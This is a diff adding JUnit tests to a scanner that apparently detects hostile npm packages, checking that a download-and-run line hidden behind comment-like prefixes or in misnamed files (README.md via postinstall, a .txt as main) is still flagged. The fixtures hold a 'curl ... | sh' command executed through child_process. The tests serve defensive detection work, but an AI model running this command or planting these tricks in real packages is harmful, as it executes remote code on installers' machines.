@@ -24,6 +24,9 @@ import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
 import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import uk.reeve.engine.Shared;
 import uk.reeve.engine.input.Unreadable;
 import uk.reeve.scanner.malice.content.CheckLimits;
@@ -88,6 +91,34 @@ class HostilePackagesTest {
         assertThat(result.signs().getFirst().sign().name()).isEqualTo("runs-download");
         assertThat(result.signs().getFirst().places().getFirst().file()).isEqualTo("package.json");
         assertThat(result.signs().getFirst().places().getFirst().line()).isEqualTo(2);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"//\r", "0\n* "})
+    void what_only_looks_like_a_comment_is_read(String before) throws Exception {
+        CheckResult result = check(
+                "x.tgz",
+                tgz(
+                        "package/package.json",
+                        JSON,
+                        "package/index.js",
+                        before + "require('child_process').exec('curl -s http://203.0.113.7/x | sh')\n"));
+        assertThat(signs(result)).contains("runs-download");
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+                    README.md   | "scripts": {"postinstall": "node README.md"}
+                    lib/tea.txt | "main": "lib/tea.txt\"""")
+    void what_an_interpreter_runs_is_code_whatever_it_is_called(String file, String told) throws Exception {
+        CheckResult result = check(
+                "x.tgz",
+                tgz(
+                        "package/package.json",
+                        "{\"name\": \"teapot\", \"version\": \"1.0.0\", " + told + "}",
+                        "package/" + file,
+                        "require('child_process').exec('curl -s http://203.0.113.7/x | sh')\n"));
+        assertThat(signs(result)).contains("runs-download");
     }
 
     @Test
